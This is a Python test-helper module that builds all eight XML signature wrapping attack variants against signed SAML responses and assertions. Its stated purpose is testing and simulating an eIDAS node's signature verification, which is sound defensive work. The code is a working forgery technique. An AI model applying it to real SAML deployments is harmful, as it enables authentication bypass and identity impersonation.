"""The eight XML-signature-wrapping shapes (Somorovsky et al., "On Breaking SAML", 2012), applied to any
enveloped-signed element: an unsigned "evil" copy takes the signed element's place and the original, still
verifying, is moved where a naive verifier would find it by ID. For tests and the simulator only."""

from __future__ import annotations

import copy
from collections.abc import Callable

from lxml import etree

from eidas_node.saml import SAML, SAMLP, q
from pki.xml import ns as dsns

Tamper = Callable[[etree._Element], None]


def _signature(element: etree._Element) -> etree._Element:
    found = element.find(q(dsns.DS, "Signature"))
    if found is None:
        raise ValueError("the element is not signed")
    return found


def _container_tag(element: etree._Element) -> str:
    return q(SAMLP, "Extensions") if element.tag == q(SAMLP, "Response") else q(SAML, "Advice")


def wrap(signed: etree._Element, variant: int, tamper: Tamper) -> etree._Element:
    """Apply XSW``variant`` (1..8) in place; returns the element now standing where ``signed`` was (the root
    of the tree when ``signed`` was the root)."""
    evil = copy.deepcopy(signed)
    evil_signature = evil.find(q(dsns.DS, "Signature"))
    original_signature = _signature(signed)
    if evil_signature is not None:
        evil.remove(evil_signature)
    tamper(evil)
    parent = signed.getparent()
    if parent is not None:
        parent.replace(signed, evil)
    sig_copy = copy.deepcopy(original_signature)
    position = 1  # after the Issuer

    if variant in (1, 2, 5, 6, 7, 8):
        evil.set("ID", "_evil" + signed.get("ID", "x"))
    if variant == 1:  # the original inside the copied signature
        evil.insert(position, sig_copy)
        sig_copy.append(signed)
    elif variant == 2:  # the original (with its signature) before the evil content, detached
        evil.insert(position, signed)
    elif variant == 3:  # evil with the same ID first, the original as its next sibling (or in Extensions)
        if parent is not None:
            parent.insert(parent.index(evil) + 1, signed)
        else:
            etree.SubElement(evil, _container_tag(evil)).append(signed)
            _move_container(evil)
    elif variant == 4:  # the original as a child of the evil element with the same ID
        evil.append(signed)
    elif variant == 5:  # evil carries the signature, the original (signature stripped) at the very end
        evil.insert(position, sig_copy)
        signed.remove(original_signature)
        (parent if parent is not None else evil).append(signed)
    elif variant == 6:  # the original inside ds:Object of the copied signature
        evil.insert(position, sig_copy)
        etree.SubElement(sig_copy, q(dsns.DS, "Object")).append(signed)
    elif variant == 7:  # the original in an extension point (samlp:Extensions / saml:Advice)
        evil.insert(position, sig_copy)
        etree.SubElement(evil, _container_tag(evil)).append(signed)
        _move_container(evil)
    elif variant == 8:  # like 6 with the original's own signature removed
        evil.insert(position, sig_copy)
        signed.remove(original_signature)
        etree.SubElement(sig_copy, q(dsns.DS, "Object")).append(signed)
    else:
        raise ValueError(f"XSW variants are 1..8, not {variant}")
    return evil


def _move_container(evil: etree._Element) -> None:
    """Put the extension container where the schema allows it (after Issuer/Signature, or after Subject...)."""
    container = evil[-1]
    evil.remove(container)
    index = 0
    for index, child in enumerate(evil):  # noqa: B007
        if child.tag not in (q(SAML, "Issuer"), q(dsns.DS, "Signature"), q(SAML, "Subject"), q(SAML, "Conditions")):
            break
    else:
        index = len(evil)
    evil.insert(index, container)
